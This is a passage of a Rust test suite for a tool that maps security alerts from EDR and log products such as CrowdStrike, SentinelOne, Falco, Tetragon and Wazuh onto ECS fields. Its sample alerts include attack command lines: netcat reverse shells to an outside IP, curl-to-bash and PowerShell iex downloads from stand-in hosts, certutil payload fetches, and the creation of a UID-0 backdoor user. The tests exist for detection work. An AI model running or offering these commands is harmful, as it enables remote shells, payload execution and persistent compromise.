        let svc = from_json(json!({"EventID": "7045", "Channel": "system", "Computer": "APP-2",
            "EventData": ["kXq", "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\o", "user mode service", "demand start", "LocalSystem"]}), "x").unwrap();
        assert!(cmd(&svc).contains("/Q /c echo whoami"), "{}", svc.doc);
        // bash's PROMPT_COMMAND line through syslog, and audit records folded onto one line.
        let h = from_json(json!({"message": "Jun 12 11:03:27 edge-3 bash[18842]: HISTORY: PID=18842 UID=1012 USER=kb PWD=/var/tmp CMD=echo aWQ= | base64 -d | bash"}), "x").unwrap();
        assert_eq!(cmd(&h), "echo aWQ= | base64 -d | bash");
        assert_eq!(h.doc["user"]["name"], "kb");
        assert_eq!(h.doc["process"]["working_directory"], "/var/tmp");
        let folded = from_json(json!({"message": "type=SYSCALL msg=audit(1.2:3): syscall=59 success=yes ppid=1 pid=2 uid=0 exe=\"/usr/bin/dash\" type=EXECVE msg=audit(1.2:3): argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=\"id\""}), "x").unwrap();
        assert_eq!(cmd(&folded), "/bin/sh -c id");
    }

    #[test]
    fn the_process_title_gives_the_command_line_when_nothing_else_does() {
        let a = from_json(json!({"process": {"title": "sh -c /Users/a/dev/App/build/Script-1.sh", "args": null, "executable": null,
            "command_line": null}, "host": {"os": {"type": "macos"}}}), "x").unwrap();
        assert_eq!(
            a.doc["process"]["command_line"],
            "sh -c /Users/a/dev/App/build/Script-1.sh"
        );
        assert_eq!(a.doc["process"]["args"][0], "sh");
        assert_eq!(a.doc["process"]["name"], "sh");
    }

    #[test]
    fn args_give_command_line() {
        let a = from_json(json!({"process": {"args": ["/usr/bin/osascript", "-e", "do shell script \"id\""], "executable": "/usr/bin/osascript"}, "host": {"os": {"family": "macos"}}}), "x").unwrap();
        assert_eq!(
            a.doc["process"]["command_line"],
            "/usr/bin/osascript -e \"do shell script \"id\"\""
        );
        assert_eq!(a.doc["host"]["os"]["type"], "macos");
    }

    #[test]
    fn evtx_json_exports_are_windows_events() {
        // evtx_dump
        let a = from_json(json!({"Event": {"#attributes": {"xmlns": "x"}, "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
            "TimeCreated": {"#attributes": {"SystemTime": "2019-05-12T13:04:19.027Z"}}, "EventRecordID": 86164,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "MSEDGEWIN10"},
            "EventData": {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine": "wmic os get /format:\"evil.xsl\"",
              "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "MSEDGEWIN10\\IEUser"}}}), "x").unwrap();
        assert_eq!(a.doc["process"]["name"], "WMIC.exe");
        assert_eq!(a.doc["process"]["parent"]["name"], "cmd.exe");
        assert_eq!(a.doc["host"]["name"], "MSEDGEWIN10");
        assert_eq!(a.doc["user"]["name"], "IEUser");
        assert_eq!(a.doc["event"]["code"], "1");
        // xmltodict: EventData.Data is a list of named values; EventID an element with text
        let b = from_json(json!({"Event": {"System": {"EventID": {"#text": "4688"}, "Computer": "DC01",
            "Channel": "Security"},
            "EventData": {"Data": [{"@Name": "NewProcessName", "#text": "C:\\Windows\\System32\\cmd.exe"},
              {"@Name": "CommandLine", "#text": "cmd /c whoami"}, {"@Name": "SubjectUserName", "#text": "alice"}]}}}), "x").unwrap();
        assert_eq!(b.doc["process"]["command_line"], "cmd /c whoami");
        assert_eq!(b.doc["user"]["name"], "alice");
        assert_eq!(b.doc["event"]["code"], "4688");
    }

    #[test]
    fn hayabusa_lines_map_to_ecs() {
        let h = from_json(json!({"Timestamp": "2024-05-14 09:12:41.518 +02:00", "RuleTitle": "Encoded PowerShell", "Level": "high",
            "Computer": "WS-1", "Channel": "Sec", "EventID": 4688, "RecordID": 884213,
            "Details": {"Cmdline": "powershell.exe -enc AAAA", "Proc": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "PID": "0x1b3c", "User": "mk", "ParentProc": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"},
            "ExtraFieldInfo": {"SubjectDomainName": "CORP"}, "MitreTags": ["T1059.001", "T1027"]}), "x").unwrap();
        assert_eq!(h.doc["process"]["command_line"], "powershell.exe -enc AAAA");
        assert_eq!(h.doc["process"]["name"], "powershell.exe");
        assert_eq!(h.doc["process"]["parent"]["name"], "WINWORD.EXE");
        assert_eq!(h.doc["host"]["name"], "WS-1");
        assert_eq!(
            h.doc["threat"]["technique"]["id"],
            json!(["T1059.001", "T1027"])
        );
    }

    #[test]
    fn chainsaw_hits_and_hex_encoded_auditd_arguments() {
        let c = from_json(json!({"group": "Sigma", "kind": "individual", "name": "Cmd FOR /F", "tags": ["attack.t1059.003"], "level": "high",
            "document": {"kind": "evtx", "data": {"Event": {"System": {"EventID": 1, "Computer": "WS-9", "EventRecordID": 77},
                "EventData": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c for /f x", "User": "CORP\\a"}}}}}), "x").unwrap();
        assert_eq!(c.doc["process"]["name"], "cmd.exe");
        assert_eq!(c.doc["host"]["name"], "WS-9");
        assert_eq!(c.doc["threat"]["technique"]["id"], json!(["T1059.003"]));
        assert_eq!(
            auditd_arg("6563686F206869".into()),
            "echo hi",
            "encoded because of the space"
        );
        assert_eq!(
            auditd_arg("d41d8cd98f00b204e9800998ecf8427e".into()),
            "d41d8cd98f00b204e9800998ecf8427e",
            "a hash stays"
        );
        assert_eq!(
            auditd_arg("414243".into()),
            "414243",
            "decodes, but auditd had no reason to encode it"
        );
        assert_eq!(auditd_arg("-c".into()), "-c");
    }

    #[test]
    fn jamf_protect_alerts_and_wazuh_sudo_lines_map_to_ecs() {
        let j = from_json(json!({"host": {"hostname": "MBP-7", "os": "Version 14.7.4 (Build 23H420)", "ips": ["192.0.2.7"]},
            "match": {"uuid": "m-1", "tags": ["MITREattack", "T1059.006"], "event": {"pid": 30, "timestamp": 1738660322.4},
                "facts": [{"name": "Python Socket Shell"}]},
            "related": {"users": [{"uid": 501, "name": "sam"}], "processes": [
                {"pid": 30, "ppid": 20, "pgid": 10, "uid": 501, "path": "/usr/bin/python3", "args": ["/usr/bin/python3", "-c", "import pty"]},
                {"pid": 20, "ppid": 10, "uid": 501, "path": "/bin/zsh", "args": ["zsh"]},
                {"pid": 10, "ppid": 1, "uid": 501, "path": "/sbin/launchd", "args": ["/sbin/launchd"]},
                {"pid": 44, "ppid": 99, "uid": 501, "path": "/bin/ls", "args": ["ls"]},
                {"pid": 45, "uid": 501, "path": "/usr/bin/dscl", "args": ["dscl", ".", "authonly", "sam", "x"]}]}}), "x").unwrap();
        assert_eq!(j.id, "m-1");
        assert_eq!(j.doc["process"]["name"], "python3");
        // A related process with no parent named follows as a branch; one under another
        // parent does not.
        assert_eq!(
            j.doc["process"]["command_line"],
            "/usr/bin/python3 -c 'import pty'\ndscl . authonly sam x"
        );
        assert_eq!(j.doc["process"]["parent"]["executable"], "/bin/zsh");
        assert_eq!(j.doc["process"]["group_leader"]["pid"], 10);
        assert_eq!(
            j.doc["process"]["parent"]["parent"]["executable"],
            "/sbin/launchd"
        );
        assert_eq!(j.doc["user"]["name"], "sam");
        assert_eq!(j.doc["host"]["name"], "MBP-7");
        assert_eq!(j.doc["host"]["os"]["type"], "macos");
        assert_eq!(j.doc["threat"]["technique"]["id"], json!(["T1059.006"]));
        assert_eq!(j.doc["rule"]["name"], "Python Socket Shell");
        // Wazuh's sudo decoder: the command, who ran it, as whom.
        let w = from_json(json!({"timestamp": "2025-05-08T09:41:18.455+0000", "id": "w-1", "location": "macos",
            "rule": {"id": "100214", "mitre": {"id": ["T1059.004"]}}, "agent": {"name": "MBP-8"},
            "data": {"srcuser": "pat", "dstuser": "root", "pwd": "/private/var/tmp/.cache",
                "command": "/System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate"}}), "x").unwrap();
        assert_eq!(w.doc["process"]["name"], "kickstart");
        assert_eq!(w.doc["process"]["parent"]["name"], "sudo");
        assert_eq!(w.doc["user"]["name"], "pat");
        assert_eq!(w.doc["user"]["effective"]["name"], "root");
        assert_eq!(w.doc["host"]["name"], "MBP-8");
        assert_eq!(w.doc["host"]["os"]["type"], "macos");
        assert_eq!(w.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        // A composite rule's earlier lines: a GCE startup script's own trace (`bash -x`).
        let x = from_json(json!({"id": "w-2", "rule": {"mitre": {"id": ["T1136.001"]}}, "agent": {"name": "bastion-1"},
            "full_log": "Nov  3 02:14:07 bastion-1 useradd[2291]: new user: name=gcp-svc, UID=0, GID=0",
            "previous_output": "Nov  3 02:14:06 bastion-1 google_metadata_script_runner[2210]: startup-script: + curl -fsSL http://203.0.113.212/k.pub -o /tmp/.k\nNov  3 02:14:07 bastion-1 google_metadata_script_runner[2210]: startup-script: + useradd -o -u 0 -g 0 gcp-svc",
            "data": {"dstuser": "gcp-svc", "uid": "0"}}), "x").unwrap();
        assert_eq!(x.doc["process"]["name"], "curl");
        assert_eq!(
            x.doc["process"]["command_line"],
            "curl -fsSL http://203.0.113.212/k.pub -o /tmp/.k\nuseradd -o -u 0 -g 0 gcp-svc"
        );
        assert_eq!(
            x.doc["process"]["parent"]["name"],
            "google_metadata_script_runner"
        );
        assert_eq!(x.doc["user"]["name"], "root");
        assert_eq!(x.doc["host"]["name"], "bastion-1");
    }

    #[test]
    fn crowdstrike_detections_map_to_ecs() {
        // The event stream's DetectionSummaryEvent: kernel image paths, directory + file name.
        let ev = from_json(json!({"metadata": {"eventType": "DetectionSummaryEvent", "offset": 9},
            "event": {"ComputerName": "FIN-LT-042", "UserName": "CORP\\jdoe", "DetectId": "ldt:a1:9",
                "FileName": "powershell.exe",
                "FilePath": "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0",
                "CommandLine": "powershell.exe -nop -c whoami",
                "ParentImageFileName": "\\Device\\HarddiskVolume3\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "ParentCommandLine": "WINWORD.EXE /n doc.docm", "LocalIP": "10.1.2.3", "ProcessId": 42,
                "Technique": "PowerShell", "TechniqueId": "T1059.001"}}), "x").unwrap();
        assert_eq!(ev.id, "ldt:a1:9");
        assert_eq!(
            ev.doc["process"]["executable"],
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        );
        assert_eq!(ev.doc["process"]["parent"]["name"], "WINWORD.EXE");
        assert_eq!(ev.doc["user"]["name"], "jdoe");
        assert_eq!(ev.doc["user"]["domain"], "CORP");
        assert_eq!(ev.doc["host"]["name"], "FIN-LT-042");
        assert_eq!(ev.doc["host"]["os"]["type"], "windows");
        assert_eq!(ev.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
        assert_eq!(ev.doc["process"]["pid"], 42);
        // The Alerts API's alert entity, on a Mac.
        let api = from_json(json!({"composite_id": "c:ind:1", "cmdline": "/bin/bash -c 'curl -s https://x.example/i | bash'",
            "filepath": "/bin/bash", "filename": "bash", "user_name": "ann", "technique_id": "T1059.004",
            "device": {"hostname": "MBP-1", "platform_name": "Mac", "local_ip": "10.0.0.5"},
            "parent_details": {"cmdline": "/bin/zsh -l", "filepath": "/bin/zsh", "filename": "zsh"}}), "x").unwrap();
        assert_eq!(api.id, "c:ind:1");
        assert_eq!(api.doc["process"]["name"], "bash");
        assert_eq!(api.doc["process"]["parent"]["executable"], "/bin/zsh");
        assert_eq!(api.doc["host"]["os"]["type"], "macos");
        assert_eq!(api.doc["user"]["name"], "ann");
        // Something else that merely has a `cmdline` is not taken for Falcon.
        assert!(from_json(json!({"cmdline": "ls"}), "x").is_err());
    }

    #[test]
    fn sentinelone_events_and_carbon_black_alerts_map_to_ecs() {
        // A Deep Visibility process creation: the target is the new process, the source its parent.
        let s1 = from_json(json!({"event.type": "Process Creation", "endpoint.name": "mbp-12", "endpoint.os": "osx",
            "src.process.image.path": "/bin/zsh", "src.process.cmdline": "/bin/zsh -il", "src.process.user": "mara",
            "src.process.parent.image.path": "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
            "tgt.process.image.path": "/usr/bin/curl", "tgt.process.cmdline": "curl -fsSL http://x.example/i.sh", "tgt.process.pid": 5}), "x").unwrap();
        assert_eq!(s1.doc["process"]["name"], "curl");
        assert_eq!(s1.doc["process"]["pid"], 5);
        assert_eq!(s1.doc["process"]["parent"]["command_line"], "/bin/zsh -il");
        assert_eq!(s1.doc["process"]["parent"]["parent"]["name"], "Terminal");
        assert_eq!(s1.doc["user"]["name"], "mara");
        assert_eq!(s1.doc["host"]["os"]["type"], "macos");
        // A Command Script event: the script the engine scanned.
        let cs = from_json(json!({"event.type": "Command Script", "endpoint.name": "lt-3", "endpoint.os": "windows",
            "src.process.image.path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "src.process.cmdline": "powershell.exe -File C:\\t\\a.ps1", "cmdScript.content": "Invoke-Command -ComputerName dc1 {whoami}",
            "tgt.file.path": "C:\\t\\a.ps1"}), "x").unwrap();
        assert_eq!(
            cs.doc["powershell"]["file"]["script_block_text"],
            "Invoke-Command -ComputerName dc1 {whoami}"
        );
        assert_eq!(cs.doc["file"]["path"], "C:\\t\\a.ps1");
        // A Falco alert: the event's fields under output_fields, techniques from the tags.
        let falco = from_json(json!({"hostname": "node-4", "priority": "Notice", "rule": "Terminal shell in container",
            "tags": ["container", "mitre_execution", "T1059"], "time": "2025-01-01T00:00:00Z", "uuid": "f-1",
            "output_fields": {"proc.cmdline": "sh -c id", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.pname": "node",
                "proc.pcmdline": "node server.js", "user.name": "root", "user.uid": 0, "container.id": "abc123",
                "container.image.repository": "shop/api", "k8s.pod.name": "api-7d9", "k8s.ns.name": "prod"}}), "x").unwrap();
        assert_eq!(falco.id, "f-1");
        assert_eq!(falco.doc["process"]["command_line"], "sh -c id");
        assert_eq!(falco.doc["process"]["parent"]["name"], "node");
        assert_eq!(falco.doc["container"]["id"], "abc123");
        assert_eq!(falco.doc["user"]["id"], "0");
        assert_eq!(falco.doc["host"]["os"]["type"], "linux");
        assert_eq!(falco.doc["threat"]["technique"]["id"], json!(["T1059"]));
        // Tetragon's exec event: arguments beside the binary, the pod's container, uid 0 is root;
        // a kprobe's socket argument is the destination.
        let exec = from_json(json!({"process_exec": {
            "process": {"exec_id": "ZQ==", "pid": 7, "uid": 0, "cwd": "/app", "binary": "/usr/bin/nc",
                "arguments": "198.51.100.61 9001 -e /bin/sh",
                "pod": {"namespace": "pricing", "name": "pricing-1", "container": {"id": "containerd://3372e0", "name": "svc",
                    "image": {"name": "ghcr.io/acme/pricing:2"}}}},
            "parent": {"exec_id": "ZA==", "pid": 6, "binary": "/bin/sh", "arguments": "-c \"nc 198.51.100.61 9001 -e /bin/sh\""},
            "ancestors": [{"binary": "/usr/local/bin/python3.11", "arguments": "gunicorn app"}]},
            "node_name": "gke-node-2", "time": "2025-05-09T14:22:37Z"}), "x").unwrap();
        assert_eq!(exec.id, "ZQ==:process_exec");
        assert_eq!(
            exec.doc["process"]["command_line"],
            "/usr/bin/nc 198.51.100.61 9001 -e /bin/sh"
        );
        assert_eq!(exec.doc["process"]["parent"]["name"], "sh");
        assert_eq!(
            exec.doc["process"]["parent"]["parent"]["name"],
            "python3.11"
        );
        assert_eq!(exec.doc["container"]["id"], "3372e0");
        assert_eq!(exec.doc["orchestrator"]["namespace"], "pricing");
        assert_eq!(exec.doc["user"]["name"], "root");
        assert_eq!(exec.doc["host"]["name"], "gke-node-2");
        let kprobe = from_json(json!({"process_kprobe": {"process": {"exec_id": "Zg==", "pid": 9, "uid": 33, "binary": "/usr/bin/python3",
            "arguments": "-c import socket"}, "function_name": "tcp_connect", "policy_name": "connect",
            "args": [{"sock_arg": {"family": "AF_INET", "saddr": "10.0.0.5", "daddr": "203.0.113.9", "sport": 40000, "dport": 443}}]},
            "node_name": "n1"}), "x").unwrap();
        assert_eq!(kprobe.doc["destination"]["ip"], "203.0.113.9");
        assert_eq!(kprobe.doc["destination"]["port"], 443);
        assert_eq!(kprobe.doc["event"]["action"], "tcp_connect");
        assert_eq!(kprobe.doc["user"]["id"], "33");
        // A STAR alert from the management API: the source process started the target.
        let star = from_json(json!({"alertInfo": {"alertId": "s1-9", "createdAt": "2025-03-11T08:58:14Z"},
            "ruleInfo": {"name": "Login shell from a GUI app"},
            "agentDetectionInfo": {"name": "MBP-R", "osFamily": "osx"},
            "sourceProcessInfo": {"commandline": "/Applications/IDEA.app/Contents/MacOS/idea", "filePath": "/Applications/IDEA.app/Contents/MacOS/idea", "user": "rsingh"},
            "sourceParentProcessInfo": {"commandline": "/sbin/launchd", "filePath": "/sbin/launchd"},
            "targetProcessInfo": {"tgtFilePath": "/bin/zsh", "tgtProcCmdLine": "/bin/zsh -l -i -c printenv", "tgtProcPid": "3342"}}), "x").unwrap();
        assert_eq!(star.id, "s1-9");
        assert_eq!(
            star.doc["process"]["command_line"],
            "/bin/zsh -l -i -c printenv"
        );
        assert_eq!(star.doc["process"]["pid"], 3342);
        assert_eq!(star.doc["process"]["parent"]["name"], "idea");
        assert_eq!(
            star.doc["process"]["parent"]["parent"]["executable"],
            "/sbin/launchd"
        );
        assert_eq!(star.doc["user"]["name"], "rsingh");
        // A target that PID 1 started: systemd's root is not the target's account.
        let detached = from_json(json!({"alertInfo": {"alertId": "s1-11"},
            "sourceProcessInfo": {"commandline": "/sbin/init", "filePath": "/usr/lib/systemd/systemd", "user": "root"},
            "targetProcessInfo": {"tgtFilePath": "/var/tmp/.cache/kworkerd"}}), "x").unwrap();
        assert_eq!(
            detached.doc["process"]["executable"],
            "/var/tmp/.cache/kworkerd"
        );
        assert!(detached.doc.get("user").is_none());
        assert_eq!(star.doc["host"]["os"]["type"], "macos");
        // A threat: the file is a script the process named in its arguments ran (node.exe);
        // kernel paths read as drive paths; techniques from the indicators.
        let th = from_json(json!({"threatInfo": {"threatId": "t-1", "filePath": "\\Device\\HarddiskVolume3\\Users\\r\\AppData\\Roaming\\n\\x.log",
            "maliciousProcessArguments": "\"C:\\Users\\r\\AppData\\Roaming\\n\\node.exe\" \"C:\\Users\\r\\AppData\\Roaming\\n\\x.log\"",
            "originatorProcess": "explorer.exe", "processUser": "K\\r"},
            "indicators": [{"tactics": [{"techniques": [{"name": "T1059.007"}, {"name": "not-a-technique"}]}]}]}), "x").unwrap();
        assert_eq!(
            th.doc["process"]["executable"],
            "C:\\Users\\r\\AppData\\Roaming\\n\\node.exe"
        );
        assert_eq!(th.doc["process"]["name"], "node.exe");
        assert!(
            th.doc["process"]["command_line"]
                .as_str()
                .unwrap()
                .ends_with("x.log\"")
        );
        assert_eq!(th.doc["threat"]["technique"]["id"], json!(["T1059.007"]));
        // Arguments that start with the program's bare name are the whole command line.
        let bare = from_json(
            json!({"threatInfo": {"threatId": "t-2", "filePath": "/usr/bin/python3.12",
            "maliciousProcessArguments": "python3 /home/b/.n2/pay"}}),
            "x",
        )
        .unwrap();
        assert_eq!(
            bare.doc["process"]["command_line"],
            "python3 /home/b/.n2/pay"
        );
        assert_eq!(bare.doc["process"]["executable"], "/usr/bin/python3.12");
        // The same arguments under `commandLineArguments`.
        let alias = from_json(
            json!({"threatInfo": {"threatId": "t-3", "filePath": "/usr/bin/bash",
            "commandLineArguments": "bash -c 'for h in a b; do ssh $h id; done'"}}),
            "x",
        )
        .unwrap();
        assert_eq!(
            alias.doc["process"]["command_line"],
            "bash -c 'for h in a b; do ssh $h id; done'"
        );
        // A shortcut whose arguments are cmd's, with its switches before `/c` (`/v:on /c …`).
        let lnk = from_json(
            json!({"threatInfo": {"threatId": "t-5", "filePath": "\\Device\\HarddiskVolume3\\Users\\l\\Downloads\\n.pdf.lnk",
            "maliciousProcessArguments": "/v:on /c \"set a=ht&& curl !a!\""}}),
            "x",
        )
        .unwrap();
        assert_eq!(
            lnk.doc["process"]["executable"],
            "C:\\Windows\\System32\\cmd.exe"
        );
        // Arguments that start with another system program by its full path: the threat's app
        // ran that program, so the app (and its hashes) is the parent, the originator its own.
        let own = from_json(
            json!({"threatInfo": {"threatId": "t-4", "filePath": "/Applications/P.app/Contents/MacOS/P",
            "maliciousProcessArguments": "/usr/bin/osascript \"/Users/e/Library/Application Support/p/s.scpt\"",
            "originatorProcess": "P", "sha256": "ab12"}}),
            "x",
        )
        .unwrap();
        assert_eq!(own.doc["process"]["executable"], "/usr/bin/osascript");
        assert_eq!(own.doc["process"]["name"], "osascript");
        assert_eq!(
            own.doc["process"]["parent"]["executable"],
            "/Applications/P.app/Contents/MacOS/P"
        );
        assert_eq!(own.doc["process"]["parent"]["hash"]["sha256"], "ab12");
        assert!(own.doc["process"].get("hash").is_none());
        assert!(own.doc["process"]["parent"].get("parent").is_none());
        // A web shell caught with cmd's arguments: cmd is the process, the page the file; the
        // indicators name their techniques by `title`.
        let ws = from_json(
            json!({"threatInfo": {"threatId": "t-3", "filePath": "\\Device\\HarddiskVolume4\\inetpub\\up\\a.aspx",
                "originatorProcess": "w3wp.exe", "maliciousProcessArguments": "/c whoami /all&ipconfig"},
                "indicators": [{"tactics": [{"techniques": [{"title": "T1505.003", "link": "https://attack.mitre.org/techniques/T1505/003/"}]}]}]}),
            "x",
        )
        .unwrap();
        assert_eq!(ws.doc["process"]["name"], "cmd.exe");
        assert_eq!(
            ws.doc["process"]["command_line"],
            "cmd.exe /c whoami /all&ipconfig"
        );
        assert_eq!(ws.doc["process"]["parent"]["name"], "w3wp.exe");
        assert_eq!(ws.doc["file"]["path"], "C:\\inetpub\\up\\a.aspx");
        assert_eq!(ws.doc["threat"]["technique"]["id"], json!(["T1505.003"]));
        // The target's image path as documented, or the target in the source's field names.
        for target in [
            json!({"tgtProcImagePath": "/usr/bin/osascript", "tgtProcCmdLine": "osascript -e 1"}),
            json!({"filePath": "/usr/bin/osascript", "commandline": "osascript -e 1"}),
        ] {
            let a = from_json(json!({"alertInfo": {"alertId": "s1-10"},
                "sourceProcessInfo": {"commandline": "/Volumes/C/C.app/Contents/MacOS/C", "filePath": "/Volumes/C/C.app/Contents/MacOS/C", "user": "mb"},
                "targetProcessInfo": target}), "x").unwrap();
            assert_eq!(a.doc["process"]["executable"], "/usr/bin/osascript");
            assert_eq!(a.doc["process"]["command_line"], "osascript -e 1");
            assert_eq!(a.doc["process"]["parent"]["name"], "C");
        }
        assert_eq!(star.doc["rule"]["name"], "Login shell from a GUI app");
        let cb = from_json(json!({"id": "cb-1", "device_name": "HR-LT-207", "device_os": "WINDOWS",
            "process_name": "certutil.exe", "process_cmdline": "certutil.exe -urlcache -f http://x.example/p.bin p.exe",
            "process_username": "CONTOSO\\lena", "parent_name": "powershell.exe", "parent_cmdline": "powershell.exe -nop",
            "ttps": ["T1105", "ATTACK_T1059_001"], "netconn_remote_ip": "203.0.113.57", "netconn_remote_port": 8443,
            "netconn_remote_domain": "cdn.example"}), "x").unwrap();
        assert_eq!(cb.id, "cb-1");
        assert_eq!(cb.doc["destination"]["ip"], "203.0.113.57");
        assert_eq!(cb.doc["destination"]["port"], 8443);
        assert_eq!(cb.doc["destination"]["domain"], "cdn.example");
        assert_eq!(cb.doc["process"]["name"], "certutil.exe");
        assert_eq!(cb.doc["process"]["parent"]["name"], "powershell.exe");
        assert_eq!(cb.doc["user"]["domain"], "CONTOSO");
        assert_eq!(cb.doc["host"]["os"]["type"], "windows");
        // `ATTACK_T1059_001`: Carbon Black's tag for T1059.001.
        assert_eq!(
            cb.doc["threat"]["technique"]["id"],
            json!(["T1105", "T1059.001"])
        );
    }

    #[test]
    fn chronicle_cortex_graph_and_sentinel_alerts_map_to_ecs() {
        // Chronicle UDM: the principal's process launched the target's.
        let udm = from_json(json!({"metadata": {"event_type": "PROCESS_LAUNCH", "event_timestamp": "2025-01-01T00:00:00Z", "id": "u-1"},
            "principal": {"hostname": "WS-1", "platform": "WINDOWS", "user": {"userid": "ann"},
                "process": {"command_line": "cmd.exe /c x.bat", "file": {"full_path": "C:\\Windows\\System32\\cmd.exe"}}},
            "target": {"process": {"pid": "44", "command_line": "powershell -enc AA==", "file": {"full_path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}}},
            "security_result": [{"rule_name": "ps", "attack_details": {"techniques": [{"id": "T1059.001"}]}}]}), "x").unwrap();
        assert_eq!(udm.id, "u-1");
        assert_eq!(udm.doc["process"]["name"], "powershell.exe");
        assert_eq!(udm.doc["process"]["pid"], 44);
        assert_eq!(udm.doc["process"]["parent"]["name"], "cmd.exe");
        assert_eq!(udm.doc["user"]["name"], "ann");
        assert_eq!(udm.doc["host"]["os"]["type"], "windows");
        assert_eq!(udm.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
        // Cortex XDR: action process started by the actor, under the causality actor.
        let xdr = from_json(json!({"alert_id": 77, "host_name": "mac-2", "os_actual": "macOS 14", "user_name": "bo",
            "action_process_image_command_line": "curl -s http://x.example/a | sh", "action_process_image_name": "curl",
            "actor_process_image_path": "/bin/zsh", "actor_process_command_line": "zsh -c ...",
            "causality_actor_process_image_path": "/Applications/Foo.app/Contents/MacOS/Foo", "causality_actor_process_command_line": "Foo",
            "mitre_technique_id_and_name": ["T1059.004 - Command and Scripting Interpreter: Unix Shell"]}), "x").unwrap();
        assert_eq!(xdr.id, "77");
        assert_eq!(xdr.doc["process"]["name"], "curl");
        assert_eq!(xdr.doc["process"]["parent"]["executable"], "/bin/zsh");
        assert_eq!(xdr.doc["process"]["parent"]["parent"]["name"], "Foo");
        assert_eq!(xdr.doc["host"]["os"]["type"], "macos");
        assert_eq!(xdr.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        // Graph alerts_v2: the process evidence no other names as its parent.
        let graph = from_json(json!({"id": "da-1", "title": "Suspicious PowerShell", "mitreTechniques": ["T1059.001"],
            "evidence": [
                {"@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": "ws2.contoso.example", "osPlatform": "Windows11"},
                {"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 10, "processCommandLine": "winword.exe /n a.docm",
                    "imageFile": {"fileName": "WINWORD.EXE", "filePath": "C:\\Program Files\\Microsoft Office\\root\\Office16"}},
                {"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 11, "parentProcessId": 10,
                    "processCommandLine": "powershell -nop -c iex(iwr http://x.example/p)",
                    "imageFile": {"fileName": "powershell.exe", "filePath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"},
                    "userAccount": {"accountName": "kim", "domainName": "CONTOSO"}}]}), "x").unwrap();
        assert_eq!(graph.id, "da-1");
        assert_eq!(graph.doc["process"]["name"], "powershell.exe");
        assert_eq!(
            graph.doc["process"]["parent"]["command_line"],
            "winword.exe /n a.docm"
        );
        assert_eq!(graph.doc["user"]["name"], "kim");
        assert_eq!(graph.doc["host"]["name"], "ws2.contoso.example");
        // Trend Vision One Workbench: indicators named by their telemetry field.
        let tr = from_json(json!({"id": "WB-1", "model": "Suspicious PowerShell", "workbenchLink": "https://x",
            "impactScope": {"entities": [{"entityType": "host", "entityValue": {"name": "WKS-9", "ips": ["10.0.0.9"]}},
                {"entityType": "account", "entityValue": "CORP\\amy"}]},
            "matchedRules": [{"matchedFilters": [{"mitreTechniqueIds": ["V9.T1059.001"]}]}],
            "indicators": [{"field": "processCmd", "value": "C:\\Windows\\system32\\cmd.exe /c run.bat"},
                {"field": "objectCmd", "value": "powershell.exe -nop -w hidden -c iex 1"},
                {"field": "processFilePath", "value": "C:\\Windows\\System32\\cmd.exe"}]}), "x").unwrap();
        assert_eq!(tr.id, "WB-1");
        assert_eq!(tr.doc["process"]["name"], "powershell.exe");
        assert_eq!(
            tr.doc["process"]["command_line"],
            "powershell.exe -nop -w hidden -c iex 1"
        );
        assert_eq!(
            tr.doc["process"]["parent"]["executable"],
            "C:\\Windows\\System32\\cmd.exe"
        );
        assert_eq!(tr.doc["user"]["name"], "amy");
        assert_eq!(tr.doc["host"]["name"], "WKS-9");
        assert_eq!(tr.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
        // An object path that is the script the object command runs (`.ps1`) is the alert's
        // file, not the process's program.
        let ts = from_json(
            json!({"id": "WB-3", "model": "m", "workbenchLink": "https://x",
            "indicators": [{"field": "objectCmd", "value": "powershell.exe -File D:\\Ops\\a.ps1"},
                {"field": "objectFilePath", "value": "D:\\Ops\\a.ps1"}]}),
            "x",
        )
        .unwrap();
        assert_eq!(ts.doc["process"]["name"], "powershell.exe");
        assert_eq!(ts.doc["file"]["path"], "D:\\Ops\\a.ps1");
        // The account the judged process ran as, over the alert's other accounts; a program
        // only macOS has, as the parent, names the system.
        let tm = from_json(json!({"id": "WB-2", "model": "m", "workbenchLink": "https://x",
            "impactScope": {"entities": [{"entityType": "account", "entityValue": "sj"}, {"entityType": "account", "entityValue": "nobody"}]},
            "indicators": [{"field": "processCmd", "value": "/bin/sh -c id"}, {"field": "parentCmd", "value": "osascript -e x"},
                {"field": "processUser", "value": "root"}, {"field": "parentUser", "value": "sj"}]}), "x").unwrap();
        assert_eq!(tm.doc["user"]["name"], "root");
        assert_eq!(tm.doc["host"]["os"]["type"], "macos");
        // Sentinel SecurityAlert: entities as a JSON string, linked by $id/$ref.
        let entities = json!([
            {"$id": "2", "Type": "process", "ProcessId": "500", "CommandLine": "cscript //nologo C:\\Users\\x\\a.vbs",
                "ImageFile": {"$id": "3", "Type": "file", "Name": "cscript.exe", "Directory": "C:\\Windows\\System32"},
                "ParentProcess": {"$id": "4", "Type": "process", "ProcessId": "400", "CommandLine": "explorer.exe",
